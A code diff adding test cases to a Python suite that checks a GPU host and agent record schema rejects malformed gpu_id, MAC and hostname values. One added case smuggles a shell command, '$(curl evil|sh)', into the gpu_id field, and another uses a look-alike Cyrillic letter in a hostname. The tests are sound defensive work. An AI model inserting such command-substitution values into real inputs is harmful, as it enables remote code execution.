@@ -179,6 +179,16 @@ def test_an_address_of_another_agent_is_a_key_mismatch(
         (lambda r: r["host"].update(os_release="x" * 256), "at most 255"),
         (lambda r: r["agents"][0]["tuple"].update(model="Llama3:8B"), "not canonical"),
         (lambda r: r.update(slots=[]), "0 items"),
+        (lambda r: r["slots"][0].update(gpu_id="$(curl evil|sh)"), "slots[0].gpu_id: gpu_id"),
+        (
+            lambda r: r["slots"][0].update(gpu_id="GPU-" + "a" * 8 + "-1111-2222-3333-" + "b" * 12),
+            "slots[0].gpu_id: 'GPU-aaaaaaaa-1111-2222-3333-bbbbbbbbbbbb' is not canonical",
+        ),
+        (lambda r: r["host"].update(mac="000000000000"), "host.mac: mac '000000000000' is all"),
+        (lambda r: r["host"].update(mac="ffffffffffff"), "host.mac: mac 'ffffffffffff' is the"),
+        (lambda r: r["host"].update(mac="01005e000001"), "host.mac: mac '01005e000001' is a mul"),
+        (lambda r: r["host"].update(hostname="gpu-n\u043ede-01"), "host.hostname: hostname"),
+        (lambda r: r["host"].update(hostname="1234"), "all digits and dots"),
     ],
 )
 def test_records_that_break_the_schema_are_refused(
